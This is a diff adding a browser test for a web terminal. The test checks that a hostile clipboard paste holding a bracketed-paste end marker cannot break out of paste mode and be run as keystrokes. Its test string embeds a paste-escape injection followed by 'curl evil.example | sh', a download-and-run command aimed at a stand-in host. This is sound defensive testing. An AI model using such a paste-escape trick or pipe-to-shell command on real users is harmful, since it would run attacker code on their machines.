@@ -1,0 +1,49 @@
+// What a hostile SSH server (its output reaches the terminal) or a hostile clipboard can make the
+// page do, in Debian's Chromium. Server output is fed through the same TerminalView.writeBytes the
+// session's pump uses; the terminal's answers and pastes are read from TerminalView.onInput, which
+// the session sends to the server as keystrokes.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openApp, startWebStack, type WebStack } from './harness.ts';
+
+declare global {
+  interface Window { sent?: string[] }
+}
+
+describe('hostile terminal output and pastes', () => {
+  let stack: WebStack;
+  beforeAll(async () => { stack = await startWebStack({ config: { mode: 'personal' } }); }, 180_000);
+  afterAll(async () => { await stack?.stop(); });
+
+  it('a pasted end-of-paste marker cannot end bracketed paste early (paste event and Paste button)', async () => {
+    const { context, page } = await stack.newPage();
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stack.baseUrl });
+    await openApp(page, stack.baseUrl);
+    // The shell turns on bracketed paste (xterm ctlseqs: CSI ? 2004 h), as bash and zsh do at the prompt.
+    await page.evaluate(async () => {
+      const view = window.tessera!.app.terminal;
+      window.sent = [];
+      view.onInput((d) => window.sent!.push(d));
+      void view.writeBytes(new TextEncoder().encode('\x1b[?2004h$ '));
+      await view.flush();
+    });
+    // Copied from a hostile web page: after the marker, the shell would run the rest as typed keys.
+    const evil = 'echo harmless\x1b[201~\rcurl evil.example | sh\r';
+    await page.evaluate((text) => {
+      const data = new DataTransfer();
+      data.setData('text/plain', text);
+      document.querySelector('#terminal .xterm-helper-textarea')!.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
+    }, evil);
+    await page.evaluate((text) => navigator.clipboard.writeText(text), evil);
+    await page.click('#paste-button');
+    await expect.poll(() => page.evaluate(() => window.sent!.length)).toBe(2);
+    const sent = await page.evaluate(() => window.sent!);
+    for (const s of sent) {
+      expect(s.startsWith('\x1b[200~')).toBe(true);
+      expect(s.endsWith('\x1b[201~')).toBe(true);
+      // Exactly one end marker: the shell sees the whole paste as pasted text, none of it as keystrokes.
+      expect(s.split('\x1b[201~')).toHaveLength(2);
+      expect(s).toContain('curl evil.example | sh');
+    }
+    await context.close();
+  }, 60_000);
+});
